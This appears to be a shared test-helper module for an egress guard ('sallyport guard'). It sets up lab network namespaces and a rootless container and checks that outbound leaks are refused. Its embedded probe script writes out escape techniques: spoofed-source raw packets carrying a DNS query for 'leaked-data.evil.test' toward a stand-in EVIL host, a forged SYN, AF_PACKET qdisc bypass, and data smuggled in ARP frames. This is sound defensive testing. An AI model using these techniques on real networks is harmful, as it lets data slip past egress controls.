# SPDX-License-Identifier: Apache-2.0
"""What the tests of `sallyport guard` share. The lab's "machine" plays the
container: a network namespace with an uplink of its own, in which the guard is
put up, and processes of several users that want out."""
import glob
import json
import os
import subprocess
import time

from harness import so_far
from lab import EVIL, sh

USER = 33
GATE_UID = 1900000001
# What a container engine leaves to root in a container, and NET_ADMIN.
CONTAINER = ("chown dac_override fsetid fowner mknod net_raw setgid setuid "
             "setfcap setpcap net_bind_service sys_chroot kill audit_write "
             "net_admin").split()

# Prints what came of one try to get something out, and how long that took.
TRY = """
import socket, struct, sys, time
kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
six = ":" in host
family = socket.AF_INET6 if six else socket.AF_INET
def own():
    with open("/proc/thread-self/schedstat") as f:
        return time.monotonic() - int(f.read().split()[1]) / 1e9
began = own()
try:
    if kind == "tcp":
        s = socket.create_connection((host, port), 5)
        s.sendall(b"leak\\n"); s.settimeout(5); print("got", s.recv(9))
    elif kind == "udp":
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
        s.sendto(b"leak", (host, port)); print("got", s.recv(9))
    elif kind == "udp-connected":
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
        s.connect((host, port)); s.send(b"leak"); print("got", s.recv(9))
    elif kind == "bound":  # by an interface where the address is not
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, sys.argv[4].encode())
        s.sendto(b"leak", (host, port)); print("got", s.recv(9))
    elif kind in ("forged-udp", "forged-syn"):  # from EVIL: the answer would leak
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        evil = socket.inet_aton(sys.argv[4])
        if kind == "forged-udp":
            name = b"\\x0bleaked-data\\x04evil\\x04test\\0"
            data = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1"
            body = struct.pack("!HHHH", 5555, port, 8 + len(data), 0) + data
        else:
            body = struct.pack("!HHIIBBHHH", 5555, port, 7, 0, 0x50, 2, 1000, 0, 0)
            pseudo = evil + socket.inet_aton(host) + struct.pack("!HH", 6, 20)
            words = struct.unpack("!16H", pseudo + body)
            n = sum(words); n = (n & 65535) + (n >> 16); n = (n & 65535) + (n >> 16)
            body = body[:16] + struct.pack("!H", n ^ 65535) + body[18:]
        l4 = 17 if kind == "forged-udp" else 6
        s.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, l4,
                             0, evil, socket.inet_aton(host)) + body, (host, 0))
        print("sent")
    elif kind == "raw":  # @port: a protocol
        s = socket.socket(family, socket.SOCK_RAW, port); s.settimeout(1)
        s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0leak", (host, 0)); print("sent")
    elif kind in ("packet", "packet-bypass"):
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        if kind == "packet-bypass": s.setsockopt(263, 20, 1)  # PACKET_QDISC_BYPASS
        s.bind((sys.argv[4], 0x0800))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0,
                         socket.inet_aton("203.0.113.2"), socket.inet_aton(host))
        udp = struct.pack("!HHHH", 5555, port, 8, 0)
        s.send(b"\\xff" * 6 + b"\\2\\0\\0\\0\\0\\1\\x08\\0" + ip + udp); print("sent")
    elif kind == "arp":
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind((sys.argv[4], 0x0806))
        s.send(b"\\xff" * 6 + b"\\2\\0\\0\\0\\0\\1\\x08\\6" + b"leak" * 12); print("sent")
except socket.timeout:
    print("silence")
except OSError as e:
    print("refused", e.errno)
print("%.2f" % (time.monotonic() - began))
"""


def own_place():
    """What is remembered of a guard is the lab's, and gone with it."""
    os.makedirs("/run/sallyport", exist_ok=True)
    sh("mount", "-t", "tmpfs", "-o", "mode=755", "lab", "/run/sallyport")


def user(uid):
    return ["setpriv", "--reuid", str(uid), "--regid", str(uid),
            "--clear-groups"] if uid else []


def contained(*argv):
    """With the capabilities that root has in a container."""
    bound = ",".join(["-all", *("+" + c for c in CONTAINER)])
    return ["setpriv", "--bounding-set", bound, "--inh-caps", "-all", *argv]


class Guard:
    """`sallyport guard` in the lab, down again at the end."""

    def __init__(self, case, *args, wrap=lambda *a: list(a)):
        self.case, self.args, self.wrap = case, args, wrap

    def call(self, *argv, **kw):
        return subprocess.run(
            self.wrap(self.case.binary, "guard", *argv), text=True,
            capture_output=True, timeout=60, stdin=subprocess.DEVNULL,
            env=self.case.env(), cwd=self.case.work, **kw)

    def up(self, *more, check=True):
        before = set(sessions())
        r = self.call("up", *self.args, *more)
        if check:
            assert r.returncode == 0, r.stderr
            fresh = set(sessions()) - before
            assert len(fresh) == 1, fresh
            self.log = fresh.pop()
        return r

    def status(self):
        r = self.call("status", "--json")
        assert r.returncode in (0, 1), r
        state = json.loads(r.stdout)
        assert state["up"] == (r.returncode == 0), r
        return state

    def down(self):
        r = self.call("down")
        assert r.returncode == 0, r.stderr
        for path in glob.glob("/run/sallyport/*.err"):
            with open(path) as f:
                said = f.read()
            assert "Sanitizer" not in said and "runtime error" not in said, said
        return r

    def __enter__(self):
        self.up()
        return self

    def __exit__(self, *_):
        self.down()

    # -- asking -------------------------------------------------------------

    def records(self):
        return so_far(self.log)

    def denied(self):
        """Why it was refused what it was refused so far."""
        return {r.get("status_code") for r in self.records()
                if r.get("action_id") == 2}

    def verified(self, held="held"):
        """The receipt, after the end."""
        r = subprocess.run([self.case.binary, "verify", "--json", self.log],
                           capture_output=True, text=True, timeout=60)
        assert r.returncode == 0, r.stdout + r.stderr
        boundary = boundary_of(r.stdout)
        assert boundary["kind"] == "in-container", boundary
        assert boundary["held"] == held, boundary
        return boundary


def boundary_of(verified):
    """What the receipt says, of `verify --json`."""
    return json.loads(verified)["receipt"]["boundary"]


def sessions():
    return glob.glob("/var/log/sallyport/2*")


# First process of a user namespace with 65,536 uids, as of an engine without
# root, and with a network, pids and files of its own.
ROOTLESS = """
import ctypes, os, subprocess, sys, time
assert ctypes.CDLL(None).unshare(0x10000000|0x40000000|0x20000000|0x20000) == 0
print("made", flush=True); sys.stdin.readline()
os.setgid(0); os.setuid(0)
for cap in sys.argv[1:]:
    assert ctypes.CDLL(None).prctl(24, int(cap), 0, 0, 0) == 0
child = os.fork()
if child == 0:
    for c in ("--make-rprivate /", "-t proc proc /proc", "-t tmpfs run /run"):
        subprocess.run(["mount", *c.split()], check=True)
    print("ready", flush=True); time.sleep(600)
os.waitpid(child, 0)
"""


class Rootless:
    """Such a container behind this machine, which translates its address."""

    def __init__(self, raw=True):
        self.raw = raw  # has it CAP_NET_RAW?

    def __enter__(self):
        self.top = subprocess.Popen(["python3", "-c", ROOTLESS,
                                     *([] if self.raw else ["13"])], text=True,
                                    stdin=subprocess.PIPE,
                                    stdout=subprocess.PIPE)
        assert self.top.stdout.readline() == "made\n"
        for name in "uid_map", "gid_map":
            with open(f"/proc/{self.top.pid}/{name}", "w") as f:
                f.write("0 100000 65536")
        self.top.stdin.write("go\n")
        self.top.stdin.flush()
        assert self.top.stdout.readline() == "ready\n"
        with open(f"/proc/{self.top.pid}/task/{self.top.pid}/children") as f:
            self.pid = int(f.read())
        sh("ip", "link", "add", "c0", "type", "veth", "peer", "name", "eth0",
           "netns", str(self.pid))
        sh("ip", "addr", "add", "10.5.0.1/24", "dev", "c0")
        sh("ip", "link", "set", "c0", "up")
        with open("/proc/sys/net/ipv4/ip_forward", "w") as f:
            f.write("1")
        nft("add table ip engine; add chain ip engine post { type nat hook "
            "postrouting priority 100; }; add rule ip engine post oifname up0 "
            "masquerade")
        for command in ("link set lo up", "addr add 10.5.0.2/24 dev eth0",
                        "link set eth0 up", "route add default via 10.5.0.1"):
            sh(*self.enter("ip", *command.split()))
        return self

    def enter(self, *argv):
        return ["nsenter", "-t", str(self.pid), "-U", "-n", "-m", "-p", "-S",
                "0", "-G", "0", "env", "HOME=/run", "setpriv",
                "--bounding-set", "+all" if self.raw else "-net_raw", *argv]

    def __exit__(self, *_):
        os.kill(self.pid, 9)
        self.top.wait()
        # The kernel takes it away with the other end, in a while.
        end = time.monotonic() + 60
        while os.path.exists("/sys/class/net/c0") and time.monotonic() < end:
            time.sleep(0.02)
        nft("delete", "table", "ip", "engine")
        with open("/proc/sys/net/ipv4/ip_forward", "w") as f:
            f.write("0")


def run(case, *argv, uid=USER, timeout=60):
    return subprocess.run([*user(uid), *argv], text=True, capture_output=True,
                          timeout=timeout, stdin=subprocess.DEVNULL,
                          env=case.env(), cwd="/")


def attempt(case, kind, host, port, *more, uid=USER):
    """(word, seconds) of one try: without those in which it could have gone on
    and others had the processors."""
    r = run(case, "python3", "-c", TRY, kind, host, str(port), *more, uid=uid)
    assert r.returncode == 0, r.stderr
    *word, seconds = r.stdout.split("\n")[:-1]
    return " ".join(word), float(seconds)


def refused(case, *what, uid=USER):
    """At once. How?"""
    word, took = attempt(case, *what, uid=uid)
    assert word.startswith("refused") and took < 1, (uid, *what, word, took)
    return word


def fetch(case, url, *more, uid=USER):
    return run(case, "curl", "-sS", "-m", "20", *more, url, uid=uid)


def nft(*argv):
    return sh("nft", *argv)


def tables():
    return nft("list", "tables").split("\n")[:-1]


def gone(pid, seconds=30):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if not alive(pid):
            return True
        time.sleep(0.02)
    return False


def alive(pid):
    """Nobody takes the status of orphans here, as in many a container."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] not in "ZX"
    except OSError:
        return False


def seen_at_evil(case):
    return case.lab.packets(f"host {EVIL}")


